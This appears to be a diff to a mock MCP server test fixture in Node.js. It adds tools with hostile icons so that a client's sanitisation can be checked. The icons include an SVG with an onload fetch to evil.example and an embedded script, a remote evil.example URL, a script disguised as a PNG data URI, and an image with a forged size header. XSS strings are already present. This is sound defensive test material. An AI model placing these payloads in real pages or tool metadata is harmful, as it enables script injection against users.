@@ -4,6 +4,20 @@ import { createInterface } from 'node:readline';
 const attack = '<img src=x onerror="document.title=1;fetch(\'https://evil.example/\')">';
 const script = '<script>alert(1)</script>';
 const send = (message) => process.stdout.write(`${JSON.stringify({ jsonrpc: '2.0', ...message })}\n`);
+const pixel = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
+const svg =
+  '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://evil.example/\')"><script>alert(1)</script></svg>';
+const wide = Buffer.from(pixel, 'base64');
+wide.writeUInt32BE(5_000, 16);
+/** Icons that are not what an icon is, and one that is. */
+const icons = {
+  drawn: `data:image/png;base64,${pixel}`,
+  remote: 'https://evil.example/icon.png',
+  scripted: `data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}`,
+  disguised: `data:image/png;base64,${Buffer.from(script).toString('base64')}`,
+  mistaken: `data:image/jpeg;base64,${pixel}`,
+  large: `data:image/png;base64,${wide.toString('base64')}`,
+};
 const results = {
   initialize: (params) => ({
     protocolVersion: params.protocolVersion,
@@ -23,6 +37,12 @@ const results = {
         },
       },
       { name: 'fails', description: script, inputSchema: { type: 'object' } },
+      ...Object.entries(icons).map(([name, src]) => ({
+        name,
+        description: 'Has an icon',
+        inputSchema: { type: 'object' },
+        icons: [{ src }],
+      })),
     ],
   }),
   'resources/list': () => ({
